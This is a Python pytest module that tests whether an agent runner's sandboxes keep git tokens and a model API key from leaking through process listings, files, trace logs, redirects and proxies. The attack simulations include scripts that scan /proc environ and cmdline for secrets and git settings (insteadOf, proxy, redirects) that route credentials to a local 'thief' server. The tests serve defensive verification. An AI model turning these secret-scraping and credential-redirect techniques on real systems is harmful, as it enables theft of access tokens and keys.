"""Attacks on the forge's token while the worker uses it, and on the model's key while the gateway does.

Jails of other tasks run at that moment; the same watcher first sees what a careless worker shows.
"""

# ruff: noqa: ASYNC221 - a test may hold up its own loop
from __future__ import annotations

import asyncio
import base64
import os
import subprocess
from pathlib import Path

import pytest

from bot.forges.protocol import GitAccess
from runners.workspace.git import Git
from runners.workspace.open import OpenJail
from tests.attacks.parts import GIT, PYTHON, config, put
from tests.runners.providers.stage import open_stage
from tests.runners.workspace.kit import TABLE, serve, sh
from tests.simulators.models import Step
from tests.simulators.models.server import REAL_KEY

TOKEN = "s3cr3t-tok3n"
ACCESS = GitAccess("x-access-token", TOKEN, 0)
FORMS = (TOKEN, base64.b64encode(f"x-access-token:{TOKEN}".encode()).decode())
WATCH = """
import glob, sys, time
from pathlib import Path
forms = [form.encode() for form in sys.argv[1:]]
end, seen, looks, begun = time.monotonic() + 25, "", 0, Path("watching")
begun.touch()
while time.monotonic() < end and not seen and not Path("over").exists():
    looks += 1
    for kind in ("cmdline", "environ", "status"):
        for path in glob.glob(f"/proc/[0-9]*/{kind}"):
            try:
                content = Path(path).read_bytes()
            except OSError:
                continue
            if str(Path("/proc/self").resolve()) not in path and any(form in content for form in forms):
                if b"glob.glob" not in content:
                    seen = kind
print(seen or "nothing", looks > 3)
"""


async def watched(jail, tree: Path, work) -> str:
    """Watch every process in sight, from inside a jail, while `work` is done again and again."""
    running = asyncio.ensure_future(jail.run([PYTHON, "-c", WATCH, *FORMS], timeout=60))
    while not (tree / "watching").exists():
        await asyncio.sleep(0.02)
    for _ in range(6):
        await work()
    (tree / "over").touch()
    said = (await running).output
    for name in ("watching", "over"):
        (tree / name).unlink()
    return said


async def test_no_process_shows_the_token_of_a_push(worktree, source, place, tree, work, make_jail):
    """The watcher is another task's jail; without walls it sees the command line of a careless push."""
    sh("git clone -q source naive", place)
    put(worktree.path / "new", "x")
    made = await worktree.commit("step")
    assert made is not None
    other = OpenJail(TABLE, tree, directory=work / "open")
    with serve(source.path.parent) as server:
        url = server.url.replace("//", f"//x-access-token:{TOKEN}@")
        counted = iter(range(100))

        async def careless() -> None:
            await asyncio.to_thread(sh, f"git push -q {url} HEAD:refs/heads/x{next(counted)}", place / "naive")

        async def ours() -> None:
            await worktree.push(server.url, ACCESS, f"{made.commit}:refs/heads/y{next(counted)}")

        assert (await watched(other, tree, careless)).startswith("cmdline ")
        assert await watched(make_jail(tree), tree, ours) == "nothing True\n"
        if other.uid is not None:  # a worker of one user with its jails is protected by their walls alone
            assert await watched(other, tree, ours) == "nothing True\n"
        assert FORMS[1] in {given.removeprefix("Basic ") for _, given in server.seen}, "the token was never used"


async def test_no_file_keeps_the_token(worktree, mirror, source, place):
    sh("git clone -q source naive", place)
    with serve(source.path.parent) as server:
        url = server.url.replace("//", f"//x-access-token:{TOKEN}@")
        sh(
            f"git remote set-url origin {url}; git fetch -q origin; git push -q origin HEAD:refs/heads/x",
            place / "naive",
        )
        assert subprocess.run(["grep", "-rqF", TOKEN, place / "naive"], check=False).returncode == 0
        await worktree.push(server.url, ACCESS, f"{worktree.head}:refs/heads/y")
        held = type(mirror)(mirror.path, server.url)
        await held.fetch(ACCESS)
        await worktree.remove()
    for form in FORMS:
        assert subprocess.run(["grep", "-rqF", form, place / "work"], check=False).returncode == 1
    assert sum(given.startswith("Basic ") for _, given in server.seen) >= 2


async def test_no_setting_of_the_tree_sends_the_token_elsewhere(worktree, source, place):
    """`insteadOf`, a proxy of the tree, headers of the tree: each would carry it to another server."""
    put(place / "plant", "")
    with serve(place) as forge, serve(place) as thief:
        there = thief.url.removesuffix("/source/.git")
        text = f'[url "{there}/"]\n\tinsteadOf = {forge.url.removesuffix("source/.git")}\n[http]\n\tproxy = {there}\n'
        sh("git clone -q source naive", place)
        config(place / "naive", text)
        header = f"http.extraHeader=Authorization: Basic {FORMS[1]}"
        sh(f"git -c '{header}' push -q {forge.url} HEAD:refs/heads/x", place / "naive")
        assert any(FORMS[1] in given for _, given in thief.seen)
        thief.seen.clear()
        config(worktree.path, text)
        await worktree.push(forge.url, ACCESS, f"{worktree.head}:refs/heads/y")
        assert thief.seen == []
        assert any(FORMS[1] in given for _, given in forge.seen)


async def test_a_forge_that_redirects_has_nothing_sent_elsewhere(worktree, source, place):
    from bot.model.errors import GatewrightError

    with serve(place) as forge, serve(place) as thief:
        forge.redirect = thief.url.removesuffix("/source/.git")
        sh(f"git -c http.followRedirects=true push -q {forge.url} HEAD:refs/heads/x", source.path)
        assert thief.seen
        thief.seen.clear()
        with pytest.raises(GatewrightError):
            await worktree.push(forge.url, ACCESS, f"{worktree.head}:refs/heads/y")
        assert thief.seen == []


@pytest.mark.parametrize("switch", ["GIT_TRACE", "GIT_TRACE_CURL", "GIT_CURL_VERBOSE", "GIT_TRACE2"])
async def test_no_trace_writes_the_token_down(switch, worktree, source, place, monkeypatch):
    """Somebody debugs the worker: git would write whole requests into a file or its errors."""
    log = place / "trace"
    url = None
    with serve(source.path.parent) as server:
        url = server.url.replace("//", f"//x-access-token:{TOKEN}@")
        value = "1" if switch == "GIT_CURL_VERBOSE" else str(log)
        more = {} if switch != "GIT_TRACE_CURL" else {"GIT_TRACE_REDACT": "0"}
        done = sh(f"git ls-remote {url}", place, **{switch: value}, **more)
        assert any(form in done.stderr + (log.read_text() if log.exists() else "") for form in (*FORMS, "Basic <"))
        log.unlink(missing_ok=True)
        for name, each in {switch: value, **more}.items():
            monkeypatch.setenv(name, each)
        await worktree.push(server.url, ACCESS, f"{worktree.head}:refs/heads/y")
    assert not log.exists()


CALL = """
import glob, json, os, urllib.request
from pathlib import Path
asked = urllib.request.Request(
    "%s/v1/chat/completions", json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]}).encode(),
    {"Authorization": "Bearer " + os.environ["TOKEN"], "Content-Type": "application/json"},
)
with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(asked) as answer:
    print(answer.status, answer.headers, answer.read())
for path in [*glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/cmdline"), *glob.glob("/run/*")]:
    try:
        print(Path(path).read_bytes())
    except OSError as error:
        print(error)
"""


async def test_no_jail_sees_the_key_of_the_model(monkeypatch):
    """It works with that key all the time: a call, then a look at everything there is."""
    monkeypatch.setenv("OPENAI_API_KEY", REAL_KEY)
    assert REAL_KEY in sh("cat /proc/self/environ", Path("/"), **os.environ).stdout  # a careless child has it
    async with open_stage(None, "openai", "m", [Step(text="hello")]) as stage:
        code = CALL % stage.jail.gateway_url
        said = (await stage.jail.run([PYTHON, "-c", code], timeout=30, env={"TOKEN": stage.door.token})).output
        assert said.startswith("200 "), said
        assert REAL_KEY not in said
        assert any(REAL_KEY in value for value in stage.model.requests[0].headers.values())


async def test_the_agent_cannot_push_by_itself(worktree, source, mirror, make_jail, place):
    """It has no token, no way there, and no address."""
    with serve(source.path.parent) as server:
        line = f"{GIT} -c http.extraHeader='Authorization: Basic {FORMS[1]}' push {server.url} HEAD:refs/heads/x"
        assert sh(line, worktree.path).returncode == 0
        server.seen.clear()
        jail = make_jail(worktree.path, objects=mirror.objects)
        ended = await jail.run(["bash", "-c", line.replace("heads/x", "heads/y")], timeout=20)
        assert ended.exit_code
        assert server.seen == []
    assert (await Git(worktree.directory / "git").run("config", "--get-regexp", "^remote", check=False)) == b""
